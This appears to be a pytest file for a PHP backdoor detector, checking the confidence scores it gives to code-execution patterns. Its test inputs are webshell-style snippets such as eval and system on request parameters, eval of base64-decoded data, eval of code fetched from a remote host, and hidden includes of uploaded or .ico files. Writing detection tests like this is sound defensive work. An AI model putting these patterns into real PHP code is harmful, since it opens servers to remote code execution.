from __future__ import annotations

import pytest

from pratique.content.php.program import Program
from pratique.content.php.sinks import runs
from pratique.content.php.syntax import parse


def sightings(source: str) -> list[tuple[str, float]]:
    program = Program(parse(f"<?php {source}".encode()))
    return [(sighting.mark, sighting.confidence) for sighting in runs(program)]


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("eval($_GET['a']);", ("php-runs-request", 0.97)),
        ("system($_GET['a']);", ("php-runs-request", 0.97)),
        ("system('ls ' . $_GET['a']);", ("php-runs-request", 0.85)),
        ("if (in_array($_GET['a'], $x)) { $_GET['a'](); }", ("php-runs-request", 0.55)),
        ("system($_SERVER['argv'][1]);", ("php-runs-request", 0.6)),
        ("system($_SERVER['argv'][1] . $_GET['a']);", ("php-runs-request", 0.97)),
        ("call_user_func([$_GET['a'] /* x */], 'x');", ("php-runs-request", 0.9)),
        ("eval($_SERVER['argv'][1]);", ("php-runs-request", 0.97)),
        ("call_user_func($_GET['a'], 'x');", ("php-runs-request", 0.9)),
        ("call_user_func([$_GET['a'], $_GET['b']], 'x');", ("php-runs-request", 0.9)),
        ("call_user_func([$_GET['a'], 'url'], 'x');", ("php-runs-request", 0.55)),
        ("include $_FILES['a']['tmp_name'];", ("php-runs-request", 0.8)),
        ("eval(base64_decode('AAAA'));", ("php-runs-decoded", 0.92)),
        ("eval(file_get_contents('http://b.example'));", ("php-runs-remote", 0.9)),
        ("include 'a.ico';", ("php-hidden-include", 0.85)),
    ],
)
def test_says_how_sure_it_is(source, expected):
    assert sightings(source) == [expected]


def test_a_text_about_php_is_not_php():
    assert sightings("gzinflate($d)($r);") == [("php-runs-decoded", 0.8)]
    assert sightings("gzinflate($d) and so on ($r);") == []
    assert sightings("gzinflate($d) x ($r);") == []


def test_a_function_of_the_file_is_not_that_of_php():
    assert sightings("function exec($x) {} exec($_GET['a']);") == []
